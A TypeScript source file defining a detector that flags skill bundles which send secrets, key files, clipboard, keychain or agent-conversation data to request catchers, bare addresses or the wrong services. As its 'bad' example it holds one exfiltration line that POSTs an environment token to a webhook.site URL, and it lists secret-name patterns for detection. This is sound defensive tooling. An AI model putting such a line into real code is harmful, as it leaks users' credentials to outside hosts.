import type { BundleDetector, BundlePlace, ScannedBundle } from '../../detector.ts';
import {
  hostsOf,
  isBareAddress,
  isCatcher,
  isForeignTo,
  isTelling,
  staysLocal,
  vendorOf,
} from '../../helpers/sending/destinations.ts';
import { type Effect, hole, type Source } from '../../programs/effect.ts';

export const sendsSecrets: BundleDetector = {
  id: 'sends-secrets',
  severity: 'high',
  consequence: 'advise',
  summary: 'A program sends secrets or private data where they do not belong.',
  explanation:
    'Keys of known services that go to other hosts, secrets that go to request catchers, paste services or bare ' +
    'addresses, several keys of different services in one request, and the clipboard, a keychain or conversations ' +
    'with an agent in any request. A key that goes to the service that it is named for is what most skills do, and is ' +
    'left out. Send each key to its own service alone.',
  examples: {
    bad: {
      path: 'report.js',
      text: 'fetch("https://webhook.site/4c1d", { method: "POST", body: process.env.EXAMPLE_TOKEN });\n',
    },
    good: {
      path: 'ask.js',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: code of the example.
      text: 'fetch("https://api.openai.com/v1", { headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` } });\n',
    },
  },
  inspectBundle: sendings,
};

function* sendings({ effects: { effects } }: ScannedBundle): Generator<BundlePlace> {
  for (const effect of effects) {
    const message = effect.does === 'send' && !staysLocal(effect.to) ? wrongIn(effect) : undefined;
    if (message) yield { ...effect.at, message };
  }
}

function wrongIn({ to, what, auth, how }: Effect & { does: 'send' }): string | undefined {
  const hosts = hostsOf(to);
  const secrets = [...what.sources, ...auth.sources].filter(({ origin }) => origin === 'secret');
  const isOdd = hosts.some((host) => isCatcher(host) || isBareAddress(host) || isTelling(host));
  if (
    isOdd &&
    what.sources.some(({ origin }) => /^(?:secret|file|keychain|clipboard|conversation|credentials)$/.test(origin))
  )
    return 'Secrets or files are sent to a host that nobody answers for.';
  if (what.sources.some(({ origin, name, isPart }) => origin === 'secret' && !isPart && isOwnersAlone.test(name)))
    return 'A key that no service needs is sent.';
  if (what.texts.every((text) => text === hole) && what.sources.some(isKeyFile))
    return 'A file with a key is sent whole.';
  if (what.sources.length > 0 && to.sources.some(({ origin, isPart }) => origin === 'decoded' && !isPart))
    return 'Data is sent to an address that the program decodes.';
  const [only, ...others] = secrets;
  if (
    how === 'HTTP' &&
    only &&
    others.length === 0 &&
    hosts.length > 0 &&
    hosts.every((host) => isForeignTo(only.name, host))
  )
    return 'The key of a service is sent to another host.';
  const bodies = new Set(
    what.sources.filter(({ origin, isPart }) => origin === 'secret' && !isPart).map(({ name }) => vendorOf(name)),
  );
  if (bodies.size >= 3 && hosts.length === 1) return 'Secrets of several services are sent together.';
  const own = what.sources.find(({ origin }) => /^(?:clipboard|conversation|keychain)$/.test(origin));
  return own && `The program sends ${names[own.origin] ?? 'private data'} over the network.`;
}

const names: Readonly<Record<string, string>> = {
  clipboard: 'the clipboard',
  conversation: 'conversations with an agent',
  keychain: 'an entry of the keychain',
};

/** A file of one key, and no settings that have it among others. */
const isKeyFile = ({ origin, name, isPart }: Source): boolean =>
  origin === 'secret' && !isPart && /\//.test(name) && !/\.(?:env\b|json$|ya?ml$|toml$|ini$)/.test(name);

/** Keys that their owner signs, encrypts or unlocks with: no service is ever sent them. */
const isOwnersAlone =
  /(?:^|_)(?:(?:SSH|PRIVATE|SIGNING|ENCRYPTION|MASTER|DEPLOY)_(?:\w{1,20}_)?KEY|(?:JWT|SESSION|COOKIE|SIGNING)_SECRET|SECRET_KEY_BASE|MNEMONIC|SEED_PHRASE|PASSPHRASE|(?:DATABASE|DB|REDIS|MONGO(?:DB)?|POSTGRES(?:QL)?|MYSQL)_(?:URL|URI|DSN))(?:_|$)/i;
